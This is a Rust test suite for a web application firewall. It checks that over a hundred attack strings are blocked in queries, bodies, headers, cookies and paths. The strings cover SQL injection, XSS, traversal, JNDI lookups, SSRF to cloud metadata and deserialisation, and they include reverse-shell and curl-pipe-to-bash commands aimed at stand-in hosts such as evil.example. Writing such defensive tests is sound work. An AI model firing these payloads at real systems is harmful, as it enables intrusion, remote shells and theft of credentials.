//! What must be refused, wherever it stands.

use super::super::Waf;
use palisade_contract::{
    Descriptor, Verdict,
    testkit::{Case, Instance, Kit, Ran},
};
use percent_encoding::{NON_ALPHANUMERIC, utf8_percent_encode};

/// An attack by what it is, as a value.
const VALUES: &[(&str, &str)] = &[
    ("sqli", "1' OR '1'='1"),
    ("sqli", "1 or 1=1"),
    ("sqli", "admin'--"),
    ("sqli", "admin' #"),
    ("sqli", "' OR 1=1 -- "),
    ("sqli", "\" or \"\"=\""),
    ("sqli", "1 UNION SELECT username, password FROM users"),
    ("sqli", "1 UNION/**/ALL/**/SELECT NULL,NULL,NULL--"),
    ("sqli", "-1' union select 1,2,@@version-- -"),
    ("sqli", "1; DROP TABLE users"),
    ("sqli", "1'; EXEC xp_cmdshell('dir')--"),
    ("sqli", "1' AND SLEEP(5)-- "),
    ("sqli", "1-sleep(5)"),
    ("sqli", "(select(0)from(select(sleep(15)))v)"),
    (
        "sqli",
        "1' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(0x71,(SELECT user()))x FROM information_schema.tables GROUP BY x)a)-- -",
    ),
    ("sqli", "1' waitfor delay '0:0:5'--"),
    ("sqli", "'||(select pg_sleep(5))||'"),
    ("sqli", "1 AND extractvalue(1,concat(0x7e,version()))"),
    ("sqli", "1 /*!50000UNION*/ /*!50000SELECT*/ 1,2"),
    ("sqli", "x' AND 1=(SELECT COUNT(*) FROM sqlite_master)--"),
    ("sqli", "1) or (1=1"),
    ("sqli", "1' order by 10-- "),
    ("sqli", "' || '1'='1"),
    ("nosqli", "' || 1==1//"),
    ("nosqli", "{\"$ne\": null}"),
    ("nosqli", "'; return true; var x='"),
    ("ldapi", "*)(uid=*))(|(uid=*"),
    ("xpathi", "' or count(//user)>0 or 'a'='b"),
    ("xss", "<script>alert(1)</script>"),
    ("xss", "<ScRiPt src=//evil.example/x.js>"),
    ("xss", "<img src=x onerror=alert(1)>"),
    ("xss", "<svg/onload=alert(1)>"),
    ("xss", "\"><script>alert(document.cookie)</script>"),
    ("xss", "\" onmouseover=\"alert(1)"),
    ("xss", "' autofocus onfocus=alert(1) x='"),
    ("xss", "javascript:alert(1)"),
    ("xss", "java\tscript:alert(1)"),
    ("xss", "<a href=\"javascript:alert(1)\">x</a>"),
    ("xss", "<iframe src=\"data:text/html,<script>alert(1)</script>\">"),
    ("xss", "<math><mtext></mtext></math><img src=x onerror=alert(1)>"),
    ("xss", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("xss", "';alert(1)//"),
    ("xss", "<body onload=alert(1)>"),
    ("xss", "<details open ontoggle=alert(1)>"),
    ("traversal", "../../../../etc/passwd"),
    ("traversal", "..\\..\\..\\windows\\win.ini"),
    ("traversal", "....//....//....//etc/passwd"),
    ("traversal", "..%2f..%2f..%2fetc%2fpasswd"),
    ("traversal", "..%252f..%252f..%252fetc%252fpasswd"),
    ("traversal", "/etc/passwd"),
    ("traversal", "images/../../secret.txt"),
    ("traversal", "/proc/self/environ"),
    ("traversal", "C:\\Windows\\System32\\drivers\\etc\\hosts"),
    ("traversal", "/home/app/.ssh/id_rsa"),
    ("inclusion", "php://filter/convert.base64-encode/resource=index.php"),
    ("inclusion", "file:///etc/hostname"),
    ("inclusion", "phar:///tmp/upload.jpg/x"),
    ("inclusion", "expect://id"),
    ("inclusion", "http://evil.example/shell.txt?"),
    ("inclusion", "gopher://127.0.0.1:6379/_FLUSHALL"),
    ("command", "; cat /etc/passwd"),
    ("command", "127.0.0.1; ls -la"),
    ("command", "| id"),
    ("command", "127.0.0.1 && whoami"),
    ("command", "$(curl http://evil.example/x)"),
    ("command", "`wget http://evil.example/x -O /tmp/x`"),
    ("command", "x; sleep 5"),
    ("command", "x||ping -c 10 127.0.0.1"),
    ("command", "x\nuname -a"),
    ("command", "cat${IFS}/etc/passwd"),
    ("command", "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1"),
    ("command", "curl http://evil.example/x.sh | bash"),
    ("command", "nc -e /bin/sh 10.0.0.1 4444"),
    ("command", "cmd.exe /c dir"),
    ("command", "powershell -nop -enc SQBFAFgA"),
    ("command", "& net user hacker x /add"),
    ("command", "() { :; }; /bin/bash -c id"),
    ("code", "<?php system($_GET['x']); ?>"),
    ("code", "system('id')"),
    ("code", "phpinfo()"),
    ("code", "require('child_process').execSync('id')"),
    ("code", "__import__('os').system('id')"),
    ("template", "{{7*7}}"),
    ("template", "${7*7}"),
    ("template", "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}"),
    ("template", "{{constructor.constructor('alert(1)')()}}"),
    ("template", "<%= 7*7 %>"),
    ("template", "#{7*7}"),
    ("template", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"),
    ("expression", "${jndi:ldap://evil.example/a}"),
    ("expression", "${${lower:j}ndi:ldap://evil.example/a}"),
    ("expression", "${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}"),
    ("expression", "${jnd${upper:i}:ldap://evil.example/a}"),
    ("expression", "T(java.lang.Runtime).getRuntime().exec('id')"),
    ("expression", "%{(#_memberAccess['allowStaticMethodAccess']=true)}"),
    ("ssrf", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("ssrf", "http://metadata.google.internal/computeMetadata/v1/"),
    ("ssrf", "http://[::ffff:a9fe:a9fe]/"),
    ("ssrf", "http://2852039166/"),
    ("ssrf", "http://127.0.0.1:8080/admin"),
    ("ssrf", "http://localhost/server-status"),
    ("ssrf", "http://user@[::1]:9200/_cat"),
    ("ssrf", "https://kubernetes.default.svc.cluster.local/api"),
    ("deserialisation", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA=="),
    ("deserialisation", "O:8:\"Example1\":1:{s:4:\"data\";s:2:\"id\";}"),
    ("deserialisation", "AAEAAAD/////AQAAAAAAAAAMAgAAAF9TeXN0ZW0u"),
    ("deserialisation", "_$$ND_FUNC$$_function(){require('child_process')}()"),
    ("deserialisation", "!!python/object/apply:os.system ['id']"),
    ("deserialisation", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader []]"),
    ("prototype", "{\"__proto__\": {\"admin\": true}}"),
    ("xxe", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>"),
    ("scanner", "http://x7.oast.fun/"),
    ("command", "cat /etc/passwd"),
    ("command", "<(cat /tmp/x)"),
    ("command", "powershell C:\\Windows\\x.ps1"),
    ("command", ";iex (iwr http://10.0.0.1/x.ps1)"),
    ("command", "for /f \"tokens=*\" %G in ('dir /b') do call x"),
    ("traversal", "/etc/[m-z]asswd"),
    ("inclusion", "http://192.0.2.1/x.php"),
    ("code", "<? exec('id'); ?>"),
    ("code", "('system')('id')"),
    ("template", "#{require.main.constructor._load('child_process')}"),
    ("template", "@{[qx{whoami}]}"),
    ("expression", "java.lang.ProcessBuilder"),
    ("deserialisation", "org.example.InvokerTransformer"),
    ("sqli", "x' or '{\"b\":2}'::jsonb <@ y"),
    ("sqli", "select sleep(20 div 3)"),
    ("ldapi", "admin)(|"),
    ("xss", "ja&tab;vascript&colon;alert(1)"),
    ("xss", "alert(document.domain)"),
    ("xss", "window[\"alert\"](1)"),
];

pub(super) fn core() -> Instance {
    Kit::of(Descriptor::of::<Waf>()).credential_places(Vec::new()).build("{}").unwrap()
}

pub(super) fn coded(text: &str) -> String {
    utf8_percent_encode(text, NON_ALPHANUMERIC).to_string()
}

pub(super) fn json(text: &str) -> String {
    serde_json::Value::from(text).to_string()
}

pub(super) fn xml(text: &str) -> String {
    text.replace('&', "&amp;").replace('<', "&lt;")
}

fn attribute(text: &str) -> String {
    xml(text).replace('"', "&quot;").replace('\n', "&#10;").replace('\t', "&#9;")
}

pub(super) fn blocked(ran: &Ran) -> bool {
    match &ran.verdict {
        Ok(Verdict::Continue) => false,
        Ok(Verdict::Deny(denial)) if denial.reason() == "waf_blocked" => true,
        other => panic!("neither passed nor blocked: {other:?}"),
    }
}

pub(super) fn post(kind: &str, body: String) -> Case {
    Case::new("POST", "/things").header("content-type", kind).body(body)
}

pub(super) fn multipart(value: &str) -> Case {
    post(
        "multipart/form-data; boundary=xYz",
        format!("--xYz\r\nContent-Disposition: form-data; name=\"comment\"\r\n\r\n{value}\r\n--xYz--\r\n"),
    )
}

/// A request with the value in each place.
pub(super) fn everywhere(value: &str) -> Vec<(&'static str, Case)> {
    let form = "application/x-www-form-urlencoded";
    vec![
        ("query", Case::get(&format!("/things?q={}", coded(value)))),
        ("form", post(form, format!("a=1&q={}", coded(value)))),
        ("json", post("application/json", format!("{{\"a\":1,\"b\":[{{\"c\":{}}}]}}", json(value)))),
        ("json under another type", post("text/plain", format!("{{\"a\":{}}}", json(value)))),
        ("multipart", multipart(value)),
        ("xml", post("application/xml", format!("<a><b>{}</b></a>", xml(value)))),
        ("xml attribute", post("application/xml", format!("<a><b c=\"{}\"/></a>", attribute(value)))),
        ("text", post("text/plain", value.to_owned())),
    ]
}

#[test]
fn attacks_are_refused_in_every_place() {
    let (waf, mut passed) = (core(), Vec::new());
    for (class, value) in VALUES {
        for (place, case) in everywhere(value) {
            // Markup of XML is no text in it, and a comment character begins nothing in the middle of a text.
            if !blocked(&waf.run(case)) {
                passed.push(format!("{class} in {place}: {value}"));
            }
        }
    }
    assert!(passed.is_empty(), "{} passed:\n{}", passed.len(), passed.join("\n"));
}

#[test]
fn attacks_are_refused_in_cookies_and_headers() {
    let (waf, mut passed) = (core(), Vec::new());
    for (place, case) in [
        ("cookie", Case::get("/").header("cookie", "a=1; id=1'+or+'1'='1")),
        ("cookie", Case::get("/").header("cookie", "x=<script>alert(1)</script>")),
        ("cookie", Case::get("/").header("cookie", "x=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA")),
        ("cookie", Case::get("/").header("cookie", "f=../../../../etc/passwd")),
        ("user-agent", Case::get("/").header("user-agent", "sqlmap/1.8#stable")),
        ("user-agent", Case::get("/").header("user-agent", "Mozilla/5.0 Nikto/2.5.0")),
        ("user-agent", Case::get("/").header("user-agent", "() { :;}; /bin/bash -c 'id'")),
        ("user-agent", Case::get("/").header("user-agent", "x' UNION SELECT 1,2,3-- -")),
        ("user-agent", Case::get("/").header("user-agent", "<script>alert(1)</script>")),
        ("referer", Case::get("/").header("referer", "https://a.example/?q=<svg/onload=alert(1)>")),
        ("any header", Case::get("/").header("x-api-version", "${jndi:ldap://evil.example/a}")),
        ("any header", Case::get("/").header("x-forwarded-for", "${${lower:j}ndi:dns://evil.example}")),
        ("any header", Case::get("/").header("x-forwarded-for", "1' AND pg_sleep(5)--")),
        ("content type", Case::new("POST", "/").header("content-type", "%{#context['x']}").body("x")),
        ("charset", post("application/json; charset=utf-7", "{}".into())),
        ("charset", post("application/x-www-form-urlencoded; charset=ibm037", "a=b".into())),
        ("two types", post("application/json", "{}".into()).header("content-type", "text/plain")),
        ("method", Case::new("TRACE", "/")),
        ("ranges", Case::get("/").header("range", "bytes=0-1,0-2,0-3,0-4,0-5,0-6,0-7")),
    ] {
        if !blocked(&waf.run(case)) {
            passed.push(place);
        }
    }
    assert!(passed.is_empty(), "{passed:?}");
}

#[test]
fn attacks_are_refused_in_paths_and_names() {
    let (waf, mut passed) = (core(), Vec::new());
    let name = |name: &str| post("application/json", format!("{{\"a\":{{{}:\"x\"}}}}", json(name)));
    for (place, case) in [
        ("path", Case::get("/.git/config")),
        ("path", Case::get("/app/.env")),
        ("path", Case::get("/wp-config.php")),
        ("path", Case::get("/things/%c0%ae%c0%ae/x")),
        ("path", Case::get("/things/1'%20or%20'1'='1")),
        ("path", Case::get("/things/%3Cscript%3Ealert(1)%3C/script%3E")),
        ("path", Case::get("/things/$%7B7*7%7D")),
        ("path", Case::get("/a/..;/manager/html")),
        ("path", Case::get("/x/${jndi:ldap:%2F%2Fevil.example%2Fa}")),
        ("query name", Case::get("/?1'+or+'1'%3D'1=x")),
        ("query name", Case::get("/?user[$ne]=1")),
        ("query name", Case::get("/?__proto__[admin]=1")),
        ("query name", Case::get("/?constructor.prototype.admin=1")),
        ("query name", Case::get("/?class.module.classLoader.resources=x")),
        ("query", Case::get("/?a=x%00y")),
        ("query", Case::get("/?a=x%0d%0aSet-Cookie:%20a=b")),
        ("query", Case::get("/?a=%u003cscript%u003e")),
        ("json name", name("__proto__")),
        ("json name", name("$where")),
        ("json name", name("<script>alert(1)</script>")),
        ("json name", name("x' or 1=1 -- ")),
        ("json name", name("${jndi:ldap://evil.example}")),
        ("json", post("application/json", r#"{"login":{"user":"a","password":{"$gt":""}}}"#.into())),
        ("json", post("application/json", r#"{"x":{"@type":"com.sun.rowset.JdbcRowSetImpl"}}"#.into())),
        ("json", post("application/json", r#"{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework"}"#.into())),
        ("json", post("application/json", r#"{"constructor":{"prototype":{"admin":true}}}"#.into())),
        ("json", post("application/vnd.api+json", r#"{"q":"\u0027 or \u00271\u0027=\u00271"}"#.into())),
        ("lines", post("application/x-ndjson", "{\"a\":1}\n{\"a\":\"<script>alert(1)</script>\"}\n".into())),
        ("xml", post("text/xml", "<!DOCTYPE a [<!ENTITY x SYSTEM \"http://evil.example\">]><a>&x;</a>".into())),
        ("xml attribute", post("application/soap+xml", "<a href=\"javascript:alert(1)\"/>".into())),
        ("file name", post(
            "multipart/form-data; boundary=b",
            "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"shell.php\"\r\n\r\nx\r\n--b--\r\n".into(),
        )),
        ("file name", post(
            "multipart/form-data; boundary=b",
            "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"../../x.png\"\r\n\r\nx\r\n--b--\r\n".into(),
        )),
        ("part name", post(
            "multipart/form-data; boundary=b",
            "--b\r\nContent-Disposition: form-data; name=\"user[$ne]\"\r\n\r\nx\r\n--b--\r\n".into(),
        )),
    ] {
        let ran = waf.run(case);
        if !blocked(&ran) {
            passed.push(format!("{place}: {:?}", ran.ex));
        }
    }
    assert!(passed.is_empty(), "{}", passed.join("\n"));
}
